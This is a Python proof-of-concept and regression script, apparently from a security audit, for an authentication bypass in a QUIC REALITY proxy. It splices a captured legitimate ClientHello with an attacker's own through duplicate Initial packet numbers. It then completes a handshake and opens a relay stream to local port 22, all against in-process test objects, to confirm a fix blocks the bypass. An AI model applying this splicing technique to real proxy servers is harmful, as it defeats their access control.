"""Ported from ../shared/audit/e1_bypass.py (the attack unchanged): the original stops with
NameError when no server connection is created, which is what the fix does.

E1: REALITY auth bypass: gate (last-write-wins, ignores duplicate PNs) and the connection
(first-write-wins, drops duplicate PNs) reassemble different ClientHellos."""
import sys
sys.path.insert(0, "tests/unit/reality")
from reality_helpers import (client_configuration, first_flight, make_gate, server_config,
                             seeded_rng, WALL, SNI)
from quicreality.quic.config import QuicConfiguration
from quicreality.quic.connection import QuicConnection
from quicreality.quic.endpoint import QuicServerEndpoint
from quicreality.quic import events as ev
from quicreality.reality.probe import client_initial_crypto, crypto_frame, initial_packet
from quicreality.tls.certificates import InsecureVerifier

# 1. A legit REALITY client's first flight, captured (and dropped) by an on-path attacker.
legit, legit_dgrams = first_flight(client_configuration(seed=7))
A = b"".join(d for _, d in sorted(client_initial_crypto(legit_dgrams[0], legit.initial_destination_connection_id)))
print("captured sealed ClientHello A:", len(A), "bytes, session_id", A[39:71].hex()[:16], "...")

# 2. The attacker's own plain client (no REALITY key, no short id); its ClientHello is B.
acfg = QuicConfiguration(is_client=True, rng=seeded_rng(1234), wall_clock=lambda: WALL,
                         server_name=SNI, peer_verifier=InsecureVerifier())
att = QuicConnection(configuration=acfg)
att.connect(("203.0.113.1", 443), 0.0)
own = [d for d, _ in att.datagrams_to_send(0.0)]
dcid, scid = att.initial_destination_connection_id, att.host_cid
B = b"".join(d for _, d in sorted(client_initial_crypto(own[0], dcid)))
print("attacker ClientHello B:", len(B), "bytes (unsealed)")

# 3. Crafted Initials (keys derived from the attacker's DCID, public).
d1 = initial_packet(crypto_frame(0, B[:2]), dcid=dcid, scid=scid, packet_number=0, pad_to=1200)
d2 = initial_packet(crypto_frame(0, A), dcid=dcid, scid=scid, packet_number=0, pad_to=1200)  # same PN
d3 = initial_packet(crypto_frame(2, B[2:]), dcid=dcid, scid=scid, packet_number=1, pad_to=1200)

gate = make_gate(server_config())
rng = seeded_rng(5)
factory = lambda: QuicConfiguration(is_client=False, rng=rng, wall_clock=lambda: WALL)
endpoint = QuicServerEndpoint(factory, rng=rng, gate=gate)
ADDR = ("198.51.100.66", 5555)
now = 0.0
conn = None
for name, d in (("d1", d1), ("d2", d2), ("d3", d3)):
    got = endpoint.receive_datagram(d, ADDR, now)
    if got.new: conn = got.connection
    g = got.gate
    print(name, "->", type(g).__name__ if g is not None else "routed to connection",
          getattr(getattr(g, "verdict", None), "reason", ""), "new conn" if got.new else "")
if conn is None:
    print("server events: [] (no server connection: the gate never accepted)")
    print("server received attacker stream data: []")
    raise SystemExit(0)
att._spaces[0].next_pn = 2  # the attacker's client did send Initial PNs 0 and 1 (d1/d2, d3)
# 4. Run the handshake between the attacker's client and the accepted server connection.
server_events, client_events = [], []
for _ in range(50):
    now += 0.01
    for data, _ in conn.datagrams_to_send(now):
        att.receive_datagram(data, ("203.0.113.1", 443), now)
    for data, _ in att.datagrams_to_send(now):
        endpoint.receive_datagram(data, ADDR, now)
    while (e := conn.next_event()) is not None: server_events.append(type(e).__name__)
    while (e := att.next_event()) is not None: client_events.append(type(e).__name__ + (repr(e) if "Termin" in type(e).__name__ else ""))
    if "HandshakeCompleted" in server_events and "HandshakeCompleted" in client_events:
        break
print("server events:", server_events)
print("attacker client events:", client_events)
print("server TLS processed ClientHello == B:", conn._tls.client_hello.raw == B,
      "| == A:", conn._tls.client_hello.raw == A)
# 5. Use the service: one HTTP/3-independent check: open a bidi stream with the relay preface.
from quicreality.relay.protocol import encode_preface, Preface, Kind, Destination
sid = att.get_next_available_stream_id()
att.send_stream_data(sid, encode_preface(Preface(Kind.TCP, Destination("127.0.0.1", 22), b"")))
for data, _ in att.datagrams_to_send(now):
    endpoint.receive_datagram(data, ADDR, now)
got = []
while (e := conn.next_event()) is not None:
    if isinstance(e, ev.StreamDataReceived): got.append((e.stream_id, e.data[:4]))
print("server received attacker stream data:", got)
